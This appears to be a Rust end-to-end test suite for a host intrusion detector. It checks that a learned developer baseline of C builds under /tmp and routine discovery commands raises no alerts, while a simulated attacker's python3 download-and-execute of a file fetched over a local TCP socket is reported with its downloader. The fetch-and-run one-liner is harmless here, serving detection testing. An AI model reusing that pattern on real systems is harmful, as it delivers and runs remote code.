//! Precision for real: besides their benign work, a developer learns a C program built under
//! /tmp with make and run, and routine discovery commands, from the live kernel stream;
//! afterwards the same kind of work raises nothing, while a file fetched over TCP by python3
//! and run is reported with its downloader. Runs as root; fails when it cannot.

use std::io::Write;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use sentinel::event::{Event, Payload};
use sentinel::model::{Anomaly, Level};
use sentinel_e2e::world::{User, World, remove_at_exit};
use sentinel_e2e::*;

const DEV: &str = "sntl-pdev";
const ATK: &str = "sntl-patk";

/// Runs `script` with sh as the user; panics when it fails.
fn run(u: &User, script: &str) {
    let st = u
        .cmd(&["sh", "-c", script])
        .status()
        .expect("spawn as user");
    assert!(st.success(), "as {}: {script} failed: {st}", u.name);
}

fn scratch(name: &str) -> String {
    let d = format!("/tmp/sntl-prec-{}-{name}", std::process::id());
    remove_at_exit(&d);
    d
}

/// A C project built with make under /tmp and its program run twice.
fn build_and_run(u: &User, dir: &str) {
    run(
        u,
        &format!(
            "mkdir -p {dir} && cd {dir} && printf 'int main(void){{return 0;}}\\n' > main.c \
             && printf 'all:\\n\\tcc -o main main.c\\n' > Makefile && make -s \
             && {dir}/main && {dir}/main"
        ),
    );
}

/// Routine look-arounds of this developer.
const DISCOVERY: &str = "id; uname -a; ps aux; cat /etc/os-release; hostname";

fn world() -> &'static World {
    static W: OnceLock<&'static World> = OnceLock::new();
    W.get_or_init(|| {
        World::start_with(
            DEV,
            ATK,
            |_, _| {},
            |dev, _| {
                static ROUND: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
                let r = ROUND.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                build_and_run(dev, &scratch(&format!("learn{r}")));
                run(dev, DISCOVERY);
            },
        )
    })
}

/// The user's factors of `detection` once the engine caught up: (reason, weight, level).
fn factors(w: &World, uid: u32, detection: &str) -> Vec<(String, u8, Level)> {
    w.settle();
    w.anomalies
        .lock()
        .expect("lock")
        .iter()
        .filter(|a| a.principal.uid == uid)
        .flat_map(|a| {
            a.factors
                .iter()
                .filter(|f| f.detection == detection)
                .map(|f| (f.reason.clone(), f.weight, a.level))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Successful execs of `uid` whose path ends with `suffix`.
fn exec_of(uid: u32, suffix: &str) -> impl Fn(&Event) -> bool {
    let suffix = suffix.to_string();
    move |e: &Event| {
        e.auid == Some(uid)
            && e.ok()
            && matches!(&e.payload, Payload::Exec { filename, .. }
                if filename.as_bytes().ends_with(suffix.as_bytes()))
    }
}

#[test]
fn a_program_built_by_the_learned_build_lineage_runs_without_a_finding() {
    let w = world();
    let dir = scratch("fresh");
    build_and_run(&w.dev, &dir);
    w.settle();
    let runs = collected(exec_of(w.dev.uid, &format!("{dir}/main")));
    assert!(runs.len() >= 2, "the built program did not run twice");
    let found: Vec<_> = factors(w, w.dev.uid, "exec_from_writable")
        .into_iter()
        .filter(|(r, _, _)| r.contains(&dir))
        .collect();
    assert!(found.is_empty(), "{found:#?}");
    let loud: Vec<Anomaly> = w
        .anomalies
        .lock()
        .expect("lock")
        .iter()
        .filter(|a| {
            a.principal.uid == w.dev.uid
                && a.level >= Level::Medium
                && a.factors.iter().any(|f| f.reason.contains(&dir))
        })
        .cloned()
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

#[test]
fn discovery_commands_of_the_baseline_make_no_burst() {
    let w = world();
    let before = collected(exec_of(w.dev.uid, "/hostname")).len();
    run(&w.dev, DISCOVERY);
    w.settle();
    let after = collected(exec_of(w.dev.uid, "/hostname")).len();
    assert!(after > before, "the discovery commands were not seen");
    let found = factors(w, w.dev.uid, "discovery_burst");
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn a_downloaded_file_that_is_run_names_its_downloader() {
    let w = world();
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = l.local_addr().expect("addr").port();
    let payload = std::fs::read("/usr/bin/true").expect("read /usr/bin/true");
    let server = std::thread::spawn(move || {
        if let Ok((mut c, _)) = l.accept() {
            let _ = c.write_all(&payload);
        }
    });
    let dir = scratch("dl");
    let script = format!(
        "import socket, os; s = socket.create_connection(('127.0.0.1', {port})); \
         data = s.makefile('rb').read(); open('{dir}/fetched', 'wb').write(data); \
         os.chmod('{dir}/fetched', 0o755)"
    );
    run(
        &w.atk,
        &format!("mkdir -p {dir} && /usr/bin/python3 -c \"{script}\" && {dir}/fetched"),
    );
    server.join().expect("server");
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let found = factors(w, w.atk.uid, "exec_from_writable");
        if let Some((r, weight, level)) = found.iter().find(|(r, _, _)| r.contains(&dir)) {
            assert!(
                r.contains(&format!("executed {dir}/fetched from /tmp/"))
                    && r.contains("downloaded by /usr/bin/python3")
                    && r.contains(&format!("(connected to 127.0.0.1:{port})")),
                "{r}"
            );
            assert_eq!(*weight, 60, "{r}");
            assert!(*level >= Level::High, "{r}");
            return;
        }
        assert!(
            Instant::now() < deadline,
            "no exec_from_writable for {dir}/fetched; the user's: {found:#?}"
        );
    }
}
